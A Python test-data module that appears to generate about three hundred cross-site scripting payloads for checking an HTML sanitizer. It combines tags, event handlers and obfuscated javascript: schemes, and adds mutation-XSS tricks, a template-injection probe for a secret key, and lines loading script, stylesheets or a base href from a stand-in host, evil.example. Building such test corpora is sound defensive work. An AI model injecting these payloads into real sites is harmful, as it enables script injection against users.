"""Three hundred hostile snippets, made by combining what browsers are known to run."""

import itertools

TAGS = ("script", "ScRiPt", "svg", "math", "iframe", "object", "embed", "style", "template", "form", "base", "noscript")
EVENTS = (
    "onerror",
    "onload",
    "OnClick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onpointerenter",
    "onwheel",
    "onanimationstart",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "&#x6A;avascript&colon;",
    "data:text/html,",
    "vbscript:",
    "//evil.example/",
    "\\\\evil.example\\",
    "\x01javascript:",
)
CARRIERS = (
    '<a href="{}alert(1)">lien</a>',
    "<a href={}alert(1)>lien</a>",
    '<img src="{}alert(1)">',
    '<form action="{}alert(1)"><input type=submit></form>',
    '<iframe src="{}alert(1)"></iframe>',
    '<svg><a xlink:href="{}alert(1)"><text>x</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url={}alert(1)">',
    '<object data="{}alert(1)"></object>',
)
ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "p",
    "sup class=appel",
    "span class=nouveau",
    "details open",
    "video",
    "input autofocus",
    "a href=#",
)
SINGLE = (
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import '//evil.example/x.css';</style>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/src=//evil.example/x.js>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><svg><style><img src=x onerror=alert(1)></style></svg></p>",
    "<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</div></main><script>alert(1)</script>",
    '<sup class="appel" onclick="alert(1)">1</sup>',
    '<sup class="appel"><script>alert(1)</script></sup>',
    '<span class="nouveau x" id="bar" style="position:fixed">x</span>',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "{{ settings.SECRET_KEY }}{% load x %}",
    "<!--\x02reader\x02-->",
    "<appel:1 onclick=alert(1)>",
    '<p data-block-key="x" class="y" id="z">x</p>',
    "<xss onfocus=alert(1) tabindex=1>x</xss>",
)  # fmt: skip
SNIPPETS = list(
    dict.fromkeys(
        [
            *(f"<{tag}>alert(1)</{tag}>" for tag in TAGS),
            *(f"<{tag} src=//evil.example/x>" for tag in TAGS),
            *(f"<{element} {event}=alert(1)>x" for element, event in itertools.product(ELEMENTS, EVENTS)),
            *(f"<{element}/{event}='alert(1)'>x" for element, event in itertools.product(ELEMENTS, EVENTS)),
            *(carrier.format(scheme) for carrier, scheme in itertools.product(CARRIERS, SCHEMES)),
            *SINGLE,
        ]
    )
)
STORABLE = [snippet for snippet in SNIPPETS if "\x00" not in snippet]  # PostgreSQL keeps no null character
WORD = "témoin"
